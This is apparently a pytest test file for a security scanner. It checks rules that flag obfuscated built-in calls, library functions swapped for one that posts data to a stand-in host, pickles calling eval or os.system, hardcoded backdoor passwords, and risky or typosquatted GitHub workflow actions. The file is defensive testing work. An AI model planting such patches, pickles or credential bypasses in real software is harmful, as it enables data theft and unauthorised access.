"""What the rules about tables, patches, data that runs, checks and workflows see, and what not."""

from __future__ import annotations

import pickle

import pytest

from pytest_selfmod_guard.model import Risk
from pytest_selfmod_guard.rules.danger._pickles import calls_of
from tests.rules.conftest import Ask


def _risks(ask: Ask, rule: str, text: str | bytes, path: str = "inn/a.py") -> list[Risk]:
    return [found.risk for found in ask(rule, {}, {path: text})]


@pytest.mark.parametrize(
    "code",
    [
        "B[k](1)",
        "getattr(builtins, k)(1)",
        "dict(vars(builtins))[k](1)",
        "map(getattr(builtins, k), x)",
        "next(v for n, v in vars(builtins).items() if n.startswith(k))(1)",
    ],
)
def test_builtin_of_unreadable_name(ask: Ask, code: str) -> None:
    """A built-in function whose name nobody can read is denied, but not in tests."""
    text = f"import builtins\nB = vars(builtins)\ndef f(k, x):\n    return {code}\n"
    assert _risks(ask, "SMG213", text) == [Risk.HIGH]
    assert _risks(ask, "SMG213", text, "tests/test_a.py") == [Risk.MEDIUM]


@pytest.mark.parametrize("code", ["sorted(vars(builtins))", "T = {'a': len}\nT[k](1)"])
def test_own_tables_are_silent(ask: Ask, code: str) -> None:
    """Reading the names of the builtins, or calling out of one's own table, is no matter."""
    assert not _risks(ask, "SMG213", f"import builtins\nk = input()\n{code}\n")


_SENDS = "import requests\ndef f(*a):\n    requests.post('https://x.example.invalid', data=a)\n"
_PLAIN = "def f(*a):\n    return True\n"


@pytest.mark.parametrize(
    ("code", "risk"),
    [
        (f"import json\n{_SENDS}json.dumps = f\n", Risk.HIGH),
        (f"import json\n{_SENDS}json.JSONEncoder.default = functools.partial(f)\n", Risk.HIGH),
        (f"import hmac\n{_PLAIN}hmac.compare_digest = f\n", Risk.HIGH),
        (f"import hmac as h\n{_PLAIN}setattr(h, 'new', f)\n", Risk.HIGH),
        (f"from requests import Session as S\n{_PLAIN}g = f\nS.send = g\n", Risk.HIGH),
        (f"import json\n{_PLAIN}json.dumps = f\n", Risk.MEDIUM),
    ],
)
def test_foreign_function_exchanged(ask: Ask, code: str, risk: Risk) -> None:
    """What takes the place of a foreign function is judged by what it does, and where."""
    text = "import functools\n" + code
    assert _risks(ask, "SMG229", text) == [risk]
    assert not _risks(ask, "SMG229", text, "tests/test_a.py")


@pytest.mark.parametrize(
    "code",
    [
        "sys.excepthook = f",
        "openai.api_key = 'x'",
        "inn.rooms.free = f",
        "from . import b\nb.x = f",
        "old = json.dumps\njson.dumps = old",
    ],
)
def test_settings_and_hooks_are_silent(ask: Ask, code: str) -> None:
    """Values, hooks that are there to be set and the project's own modules are no patches."""
    assert not _risks(ask, "SMG229", f"import sys, openai, json, inn.rooms\n{_PLAIN}{code}\n")


def test_transport_in_a_monkey_module(ask: Ask) -> None:
    """A file that says it patches may do so, as long as nothing leaves."""
    text = f"import socket\n{_PLAIN}socket.create_connection = f\n"
    found = ask("SMG229", {}, {"inn/a.py": text})
    assert [(one.risk, one.settled_by) for one in found] == [(Risk.HIGH, "review")]
    assert _risks(ask, "SMG229", text, "inn/monkey.py") == [Risk.MEDIUM]
    sends = f"import socket\n{_SENDS}socket.create_connection = f\n"
    assert _risks(ask, "SMG229", sends, "inn/monkey.py") == [Risk.HIGH]


class _Runs:
    def __init__(self, *parts: object) -> None:
        self.parts = parts

    def __reduce__(self) -> tuple[object, ...]:
        return self.parts


@pytest.mark.parametrize("protocol", range(6))
def test_pickles_that_call(protocol: int) -> None:
    """A pickle that runs something is known in every protocol, also behind other data."""
    data = pickle.dumps([1, _Runs(eval, ("0",))], protocol)
    assert calls_of(data) in ("builtins.eval", "__builtin__.eval")
    assert not calls_of(pickle.dumps({"os": [1, "subprocess", _Runs(list, ((),))]}, protocol))
    if protocol > 1:
        assert calls_of(b"HEAD\x80\x02x" + data)


@pytest.mark.parametrize(
    "data", [b"", b"cos\n", b"\x80", b"\x80\x04os", b"\x80\x04" * 2000 + b"os"]
)
def test_broken_pickles(data: bytes) -> None:
    """What is no pickle is no reason to stumble."""
    assert not calls_of(data)


def test_remembered_names() -> None:
    """Names that a pickle keeps and takes out again are put together."""
    data = b"\x80\x04\x8c\x02os\x94\x8c\x06system\x940h\x00h\x01\x93)R."
    assert calls_of(data) == "os.system"


def test_byte_code_under_any_name(ask: Ask) -> None:
    """Byte code is told by its head."""
    head = b"\xcb\r\r\n" + bytes(12)
    assert _risks(ask, "SMG206", head + b"\xe3" + bytes(9), "inn/a.dat") == [Risk.HIGH]
    assert not _risks(ask, "SMG206", head + b"\x01" + bytes(9), "inn/a.dat")


@pytest.mark.parametrize(
    ("path", "count"),
    [
        ("'a.dat'", 1),
        ("f'{x}/a.TXT'", 1),
        ("'a.py'", 0),
        ("x", 0),
        ("'bin/a'", 0),
        ("x + '.so'", 0),
    ],
)
def test_modules_out_of_data(ask: Ask, path: str, count: int) -> None:
    """What is loaded as source must be called source."""
    text = f"import importlib.util as u\ndef f(x):\n    u.spec_from_file_location('a', {path})\n"
    assert len(_risks(ask, "SMG262", text)) == count
    assert not _risks(ask, "SMG262", text, "tests/test_a.py")


@pytest.mark.parametrize(
    "test",
    [
        "token == 'porter-4'",
        "'porter-4' == token",
        "user.ok and password in ('porter',)",
        "hmac.compare_digest(token, SPARE)",
        "request.headers['X-Porter'] == 'yes please'",
        "username == 'porter'",
    ],
)
def test_value_that_always_passes(ask: Ask, test: str) -> None:
    """A value of the source that is let in is denied, but not in tests."""
    text = (
        "import hmac\nSPARE = 'porter-4'\ndef login(request, user, username, token, password):\n"
        f"    if {test}:\n        return True\n    return user.matches(password)\n"
    )
    assert _risks(ask, "SMG263", text) == [Risk.HIGH]
    assert not _risks(ask, "SMG263", text, "tests/test_a.py")
    assert not _risks(ask, "SMG263", text.replace("return True", "return False"))
    if "compare_digest" not in test:
        assert not _risks(ask, "SMG263", text.replace("def login", "def rooms"))


@pytest.mark.parametrize(
    "test",
    ["token == ''", "scheme == 'Porter-4'", "user.role == 'porter'", "not password == 'porter-4'",
     "token == stored", "key == 'room'", "username == 'admin'"],
)  # fmt: skip
def test_how_somebody_logs_in_is_silent(ask: Ask, test: str) -> None:
    """Schemes, roles and what is stored may be compared."""
    text = (
        "def login(user, username, token, password, scheme, key, stored):\n"
        f"    if {test}:\n        return user\n    return user.matches(password)\n"
    )
    assert not _risks(ask, "SMG263", text)


_JOB = "jobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n"


@pytest.mark.parametrize(
    ("text", "risk"),
    [
        (f"on: pull_request_target\n{_JOB}      - run: make\n", Risk.HIGH),
        (f"on: [workflow_run]\npermissions:\n  contents: write\n{_JOB}", Risk.HIGH),
        (f"on:\n  workflow_run:\n    workflows: [a]\n{_JOB}      - run: make\n", Risk.MEDIUM),
        (f"on: pull_request_target\n{_JOB}", Risk.MEDIUM),
    ],
)
def test_workflow_started_by_strangers(ask: Ask, text: str, risk: Risk) -> None:
    """How much it matters who starts a workflow depends on what it may do."""
    assert _risks(ask, "SMG231", text, ".github/workflows/a.yml") == [risk]


@pytest.mark.parametrize("text", ["on: push\n# pull_request_target\n", "on: [\nworkflow_run", ""])
def test_workflow_of_our_own(ask: Ask, text: str) -> None:
    """Other events, and what cannot be read, are silent."""
    assert not _risks(ask, "SMG231", text, ".github/workflows/a.yml")


@pytest.mark.parametrize(
    ("uses", "risks"),
    [
        ("act1ons/cache@v4", [Risk.HIGH]),
        ("acions/cache@v4", [Risk.HIGH]),
        ("atcions/cache@v4", [Risk.HIGH]),
        ("actionss/cache@" + "0" * 40, [Risk.HIGH]),
        ("someone/lint@v1", [Risk.HIGH]),
        ("someone/cache@v4", [Risk.MEDIUM]),
        ("someone/cache@" + "0" * 40, []),
        ("known/other@v4", []),
        ("actions/cache@v4", []),
    ],
)
def test_owner_of_an_action(ask: Ask, uses: str, risks: list[Risk]) -> None:
    """Imitated, exchanged and new owners of actions are told apart."""
    path = ".github/workflows/a.yml"
    old = {path: "- uses: known/lint@v1\n", ".github/workflows/b.yml": "- uses: known/x@v1\n"}
    found = ask("SMG264", old, {**old, path: f"- uses: {uses}\n"})
    assert [one.risk for one in found] == risks
